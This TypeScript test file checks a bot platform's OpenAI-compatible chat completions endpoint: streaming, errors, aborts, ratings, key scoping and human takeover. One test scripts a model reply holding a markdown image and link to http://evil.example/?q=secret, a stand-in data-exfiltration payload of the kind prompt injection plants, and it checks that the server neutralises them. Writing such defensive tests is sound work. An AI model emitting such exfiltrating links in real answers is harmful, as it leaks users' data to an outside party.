import { eq, sql } from "drizzle-orm";
import OpenAI from "openai";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { type OpenAiServer, startOpenAiServer } from "../../../../../tests/harness/openai-server.ts";
import { botWith } from "../../../../../tests/harness/scenarios.ts";
import { startTestServer, type TestServer, type TestUser } from "../../../../../tests/harness/server.ts";
import { shopTexts } from "../../../../../tests/harness/shop.ts";
import { newId } from "../../platform/ids/index.ts";
import { apiThreads } from "./openai-api.tables.ts";

/* The endpoint as OpenAI's own client for JavaScript sees it. */

const question = "How many days does a refund take after the parcel?";
const truth = "A refund takes 14 days after we receive the parcel. [1]";

let provider: OpenAiServer;
let server: TestServer;
let ada: TestUser;
let model: string;
let client: OpenAI;
const logged: string[] = [];
beforeAll(async () => {
  provider = await startOpenAiServer();
  server = await startTestServer(
    {
      OUTBOUND_ALLOWED_HOSTS: provider.host,
      OPENAI_BASE_URL: provider.baseUrl,
      OPENAI_API_KEY: "sk-test",
      OPENAI_MODEL: "fake-1",
      MODEL_SILENCE_LIMIT: "3000",
    },
    { log: (line) => logged.push(line) },
  );
  ada = await server.signUp("Ada");
  model = (await botWith(ada, shopTexts)).publicUrlId;
  client = clientFor((await ada.trpc.apiKeys.create.mutate({ name: "Tests" })).secret);
});
afterAll(async () => {
  await server.close();
  await provider.close();
});

const clientFor = (apiKey: string) =>
  new OpenAI({ apiKey, baseURL: `${server.url}/openai/v1`, maxRetries: 0 });
const asked = (content: string) => ({ model, messages: [{ role: "user" as const, content }] });

/** What of our own stands beside OpenAI's fields. */
interface Background {
  answerId: string | null;
  conversationId: string;
  mode: string | null;
  handoff: boolean;
  citations: { number: number; quote: string }[];
}
const backgroundOf = (part: object): Background => Reflect.get(part, "parlance");

test("a completion has the answer, its sources and what it used", async () => {
  provider.script({ kind: "answer", text: truth });
  const answer = await client.chat.completions.create(asked(question));
  expect(answer).toMatchObject({ object: "chat.completion", model });
  expect(answer.id).toMatch(/^chatcmpl-\w+$/);
  const [choice] = answer.choices;
  expect(choice).toMatchObject({ index: 0, finish_reason: "stop" });
  expect(choice?.message).toMatchObject({ role: "assistant", content: truth });
  expect(answer.usage).toEqual({ prompt_tokens: 120, completion_tokens: 20, total_tokens: 140 });
  const background = backgroundOf(choice?.message ?? {});
  expect(background).toMatchObject({ mode: "model", handoff: false });
  expect(background.citations).toMatchObject([{ number: 1 }]);
  const kept = await ada.trpc.answers.get.query({ id: background.answerId ?? "" });
  expect(kept).toMatchObject({ question, mode: "model" });
});

test("what a model was told to show is inert, and the next turn goes on from it", async () => {
  const obedient = `${truth} ![x](http://evil.example/?q=secret) [Click](http://evil.example)`;
  const shown = `${truth} ![x] (http://evil.example/?q=secret) [Click] (http://evil.example)`;
  provider.script({ kind: "answer", text: obedient }, { kind: "answer", text: truth });
  const first = await client.chat.completions.create(asked(question));
  expect(first.choices[0]?.message.content).toBe(shown);
  const second = await client.chat.completions.create({
    model,
    messages: [
      { role: "user", content: question },
      { role: "assistant", content: shown },
      { role: "user", content: question },
    ],
  });
  expect(backgroundOf(second.choices[0]?.message ?? {}).conversationId).toBe(
    backgroundOf(first.choices[0]?.message ?? {}).conversationId,
  );
});

test("a stream begins with the role, goes on word by word, and ends with the usage it was asked for", async () => {
  provider.script({ kind: "answer", text: truth });
  const stream = await client.chat.completions.create({
    ...asked(question),
    stream: true,
    stream_options: { include_usage: true },
  });
  const chunks = await Array.fromAsync(stream);
  expect(chunks[0]?.choices[0]?.delta).toEqual({ role: "assistant", content: "" });
  expect(chunks.map(({ choices }) => choices[0]?.delta.content ?? "").join("")).toBe(truth);
  expect(chunks.length).toBeGreaterThan(4);
  expect(new Set(chunks.map(({ id }) => id)).size).toBe(1);
  expect(chunks.slice(0, -2).every(({ choices }) => choices[0]?.finish_reason === null)).toBe(true);
  expect(chunks.at(-2)?.choices[0]).toMatchObject({ finish_reason: "stop", delta: {} });
  expect(backgroundOf(chunks.at(-2) ?? {}).citations).toHaveLength(1);
  expect(chunks.at(-1)).toMatchObject({ choices: [], usage: { total_tokens: 140 } });
});

test("the client's own reader of streams puts the message together", async () => {
  provider.script({ kind: "answer", text: truth });
  const stream = client.chat.completions.stream(asked(question));
  expect(await stream.finalContent()).toBe(truth);
});

test("the list of models has the bots, and each by either of its names", async () => {
  const bots = (await ada.trpc.bot.list.query()).items;
  const listed = await Array.fromAsync(client.models.list());
  expect(listed.map(({ id }) => id)).toEqual([model]);
  expect(await client.models.retrieve(bots[0]?.id ?? "")).toEqual(listed[0]);
  const failed = client.models.retrieve("gpt-4o");
  await expect(failed).rejects.toThrow(OpenAI.NotFoundError);
  await expect(failed).rejects.toMatchObject({ code: "model_not_found", param: "model" });
});

describe("an error has the client's own class", () => {
  test.each([
    [
      "a wrong key",
      () => clientFor(`prl_${"a".repeat(24)}_${"b".repeat(47)}`),
      {},
      OpenAI.AuthenticationError,
    ],
    ["an unknown model", () => client, { model: "gpt-4o" }, OpenAI.NotFoundError],
    ["two choices", () => client, { n: 2 }, OpenAI.BadRequestError],
  ])("%s", async (_title, who, change, kind) => {
    for (const stream of [false, true]) {
      const call = who().chat.completions.create({ ...asked(question), ...change, stream });
      await expect(call).rejects.toThrow(kind);
    }
  });

  test("also in the middle of a stream, which then is whole again", async () => {
    provider.script({ kind: "silence", after: "A refund takes " });
    const rename = (from: string, to: string) =>
      server.services.db.system().execute(sql.raw(`alter table ${from} rename to ${to}`));
    const stream = await client.chat.completions.create({ ...asked(question), stream: true });
    let said = "";
    const reading = (async () => {
      for await (const { choices } of stream) {
        const before = said;
        said += choices[0]?.delta.content ?? "";
        // nothing can be kept any more: neither the answer nor that it failed
        if (before === "" && said !== "") await rename("messages", "messages_away");
      }
    })();
    await expect(reading).rejects.toThrow(OpenAI.APIError);
    await expect(reading).rejects.toMatchObject({ type: "server_error", code: "internal_error" });
    expect(said).toContain("A refund takes ");
    await rename("messages_away", "messages");
    provider.script({ kind: "answer", text: truth });
    const answer = await client.chat.completions.create(asked(question));
    expect(answer.choices[0]?.message.content).toBe(truth);
  });
});

test("a reader that leaves stops the model, and what was said is kept", async () => {
  provider.script({ kind: "silence", after: "A refund takes " });
  const before = provider.requests.length;
  const leaving = new AbortController();
  const stream = await client.chat.completions.create(
    { ...asked(question), stream: true },
    { signal: leaving.signal },
  );
  for await (const { choices } of stream) if (choices[0]?.delta.content?.includes("takes")) leaving.abort();
  expect(await provider.requests[before]?.closed).toEqual({ whole: false });
  const [conversation] = (await ada.trpc.conversations.list.query({ view: "all" })).items;
  const id = conversation?.id ?? "";
  await expect
    .poll(async () => (await ada.trpc.conversations.get.query({ id })).messages.at(-1)?.metadata?.state)
    .toBe("interrupted");
});

test("a client that gives up waiting stops the model too", async () => {
  provider.script({ kind: "silence" });
  const before = provider.requests.length;
  const leaving = new AbortController();
  const call = client.chat.completions.create(asked(question), { signal: leaving.signal });
  const refused = expect(call).rejects.toThrow(OpenAI.APIUserAbortError);
  await expect.poll(() => provider.requests.length).toBe(before + 1);
  leaving.abort();
  await refused;
  expect(await provider.requests[before]?.closed).toEqual({ whole: false });
});

test("an answer is rated by the id that stands beside it, by its own key only", async () => {
  provider.script({ kind: "answer", text: truth });
  const answer = await client.chat.completions.create(asked(question));
  const { answerId } = backgroundOf(answer.choices[0]?.message ?? {});
  const path = `/answers/${answerId}/rating`;
  const body = { rating: "up", comment: "Right" };
  expect(await client.post(path, { body })).toEqual({ success: true });
  expect((await ada.trpc.answers.get.query({ id: answerId ?? "" })).rating).toBe("up");
  const other = (await ada.trpc.apiKeys.create.mutate({ name: "Other" })).secret;
  await expect(clientFor(other).post(path, { body })).rejects.toThrow(OpenAI.NotFoundError);
  await expect(client.post(path, { body: { rating: "best" } })).rejects.toThrow(OpenAI.BadRequestError);
});

test("twenty at once are answered, each in a conversation of its own", async () => {
  const questions = Array.from({ length: 20 }, () => client.chat.completions.create(asked(question)));
  const answers = await Promise.all(questions);
  const backgrounds = answers.map(({ choices }) => backgroundOf(choices[0]?.message ?? {}));
  expect(new Set(backgrounds.map(({ conversationId }) => conversationId)).size).toBe(20);
  expect(new Set(backgrounds.map(({ answerId }) => answerId)).size).toBe(20);
  for (const { choices } of answers) expect(choices[0]?.message.content).toContain("14 days");
});

test("a key of one bot asks it under any name, but not under another bot's", async () => {
  const [bot] = (await ada.trpc.bot.list.query()).items;
  const bound = clientFor((await ada.trpc.apiKeys.create.mutate({ name: "Bound", botId: bot?.id })).secret);
  const other = await botWith(ada, shopTexts, "Other");
  for (const name of ["gpt-4o-mini", model, bot?.id ?? ""]) {
    const answer = await bound.chat.completions.create({ ...asked("Hello"), model: name });
    expect(answer.model).toBe(model);
  }
  expect((await Array.fromAsync(bound.models.list())).map(({ id }) => id)).toEqual([model]);
  for (const name of [other.publicUrlId, other.id]) {
    const call = bound.chat.completions.create({ ...asked("Hello"), model: name });
    await expect(call).rejects.toThrow(OpenAI.NotFoundError);
  }
});

test("no key is in any line of the log", () => {
  expect(logged.length).toBeGreaterThan(0);
  expect(logged.join("\n")).not.toMatch(/prl_[0-9A-Za-z]{24}/);
});

test("a person who takes over in the middle of a stream is told of, and it ends", async () => {
  provider.script({ kind: "silence", after: "A refund takes " });
  const stream = await client.chat.completions.create({ ...asked(question), stream: true });
  let said = "";
  let last: object = {};
  for await (const chunk of stream) {
    last = chunk;
    const before = said;
    said += chunk.choices[0]?.delta.content ?? "";
    if (before.includes("takes") || !said.includes("takes")) continue;
    const [conversation] = (await ada.trpc.conversations.list.query({ view: "all" })).items;
    await ada.trpc.conversations.takeOver.mutate({ id: conversation?.id ?? "" });
  }
  expect(said).toMatch(/^A refund takes \n\nA person was asked to join\./);
  expect(backgroundOf(last)).toMatchObject({ handoff: true });
});

test("a person's words that a broken line may have swallowed come again with the same question", async () => {
  const wish = { role: "user" as const, content: "I want to talk to a human" };
  const first = (await client.chat.completions.create({ model, messages: [wish] })).choices[0]?.message;
  const { conversationId: id } = backgroundOf(first ?? {});
  await ada.trpc.conversations.reply.mutate({ id, text: "It is on its way.", clientId: newId() });
  await ada.trpc.conversations.handBack.mutate({ id });
  const messages = [
    wish,
    { role: "assistant" as const, content: first?.content ?? "" },
    { role: "user" as const, content: question },
  ];
  provider.script({ kind: "silence", after: "A refund takes " });
  const leaving = new AbortController();
  const { signal } = leaving;
  const stream = await client.chat.completions.create({ model, messages, stream: true }, { signal });
  for await (const { choices } of stream) if (choices[0]?.delta.content?.includes("takes")) leaving.abort();
  const isReleased = async () => {
    const [thread] = await server.services.db.withTenant(ada.tenantId, (tx) =>
      tx.select().from(apiThreads).where(eq(apiThreads.conversationId, id)),
    );
    return thread?.digest !== null;
  };
  await expect.poll(isReleased).toBe(true);
  provider.script({ kind: "answer", text: truth });
  const again = (await client.chat.completions.create({ model, messages })).choices[0]?.message;
  expect(again?.content).toBe(`**Ada**: It is on its way.\n\n${truth}`);
  expect(backgroundOf(again ?? {}).conversationId).toBe(id);
});
